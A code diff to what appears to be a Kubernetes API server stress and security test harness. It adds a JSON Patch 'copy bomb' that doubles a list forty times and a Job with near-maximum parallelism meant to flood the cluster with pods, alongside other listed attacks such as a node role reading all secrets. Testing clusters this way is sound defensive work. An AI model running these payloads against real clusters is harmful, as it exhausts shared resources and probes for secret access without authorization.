@@ -24,6 +24,9 @@ SECRETS = "/api/v1/namespaces/default/secrets"
 DEFINITIONS = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
 CLUSTER_ROLES = "/apis/rbac.authorization.k8s.io/v1/clusterroles"
 SELECTOR = ",".join(f"k{number}!=v" for number in range(990))
+JOBS = "/apis/batch/v1/namespaces/default/jobs"
+MOST_PODS = 30_000  # of one owner; an owner that wants more goes when it has these
+_FLOOD_LOOKS = 10  # a second apart
 _PAUSE_SECONDS = 0.05  # between two attempts of one attack
 _SLOW_SECONDS = 5.0  # that a connection is held without being read or spoken on
 
@@ -61,6 +64,13 @@ class Attacker:
         async with self._session.request(method, path, data=data, headers=sent) as response:
             await response.read()
             return str(response.status)
+
+    async def pods(self, user: str) -> int:
+        """How many pods there are."""
+        headers = {"authorization": f"Bearer {user}-token"}
+        async with self._session.get(f"{PODS}?limit=1", headers=headers) as response:
+            page = await response.json()
+            return len(page.get("items", ())) + int(page.get("metadata", {}).get("remainingItemCount", 0))
 
     async def speak(self, *said: bytes, hold: float = 0.0, deaf: bool = False) -> str:
         """Say something on a connection of its own, hold it, and tell the code of the answer or that there is none."""
@@ -171,10 +181,15 @@ def long_patch() -> Any:
     return [{"op": "add", "path": f"/data/n{n}", "value": "v"} for n in range(9000)]
 
 
+def copy_bomb(operations: int = 41) -> Any:
+    """A JSON Patch that copies a list into itself again and again, so that it doubles with each operation."""
+    copies = [{"op": "copy", "from": "/x", "path": "/x/-"}] * (operations - 1)
+    return [{"op": "add", "path": "/x", "value": [1]}, *copies]
+
+
 async def copy_bombs(attacker: Attacker) -> str:
     """Patches of two kilobytes that copy a list into itself forty times."""
-    copy = {"op": "copy", "from": "/x", "path": "/x/-"}
-    bomb = json.dumps([{"op": "add", "path": "/x", "value": []}, *[copy] * 40])
+    bomb = json.dumps(copy_bomb())
     asked = (attacker.ask("editor", "PATCH", f"{CONFIG}/c1", bomb, **JSON_PATCH) for _ in range(BOMBS))
     return (await asyncio.gather(*asked))[0]
 
@@ -227,6 +242,20 @@ async def pods_with_many_rules(attacker: Attacker) -> str:
     code = await attacker.ask("editor", "POST", PODS, pod)
     if code == "409":
         await attacker.ask("editor", "DELETE", f"{PODS}/{pod['metadata']['name']}?gracePeriodSeconds=0")  # type: ignore[index]
+    return code
+
+
+async def pods_by_the_thousand(attacker: Attacker) -> str:
+    """A Job that wants as many pods as there may be numbers, for ten seconds; then it goes, and its pods after it."""
+    container = {"name": "c", "image": "i"}
+    spec = {"restartPolicy": "Never", "nodeSelector": {"flood": "none"}, "containers": [container]}
+    job = {"metadata": {"name": "flood"}, "spec": {"parallelism": 2_147_483_647, "template": {"spec": spec}}}
+    code = await attacker.ask("editor", "POST", JOBS, job)
+    for _ in range(_FLOOD_LOOKS):
+        await asyncio.sleep(1)
+        if await attacker.pods("editor") >= MOST_PODS:
+            break
+    await attacker.ask("editor", "DELETE", f"{JOBS}/flood?propagationPolicy=Background")
     return code
 
 
@@ -289,6 +318,7 @@ ATTACKS: dict[str, Attack] = {
     "editor: strategic merges": strategic_merges,
     "editor: thousands of variables": asking("editor", "POST", f"{PODS}?dryRun=All", large_pod),
     "editor: pods with many rules": pods_with_many_rules,
+    "editor: pods by the thousand": pods_by_the_thousand,
     "definer: large definitions": large_definitions,
     "definer: costly patterns": asking("definer", "POST", f"{DEFINITIONS}?dryRun=All", costly_patterns),
     "node: all secrets": asking("node", "GET", "/api/v1/secrets?fieldSelector=metadata.name%3Ddb"),
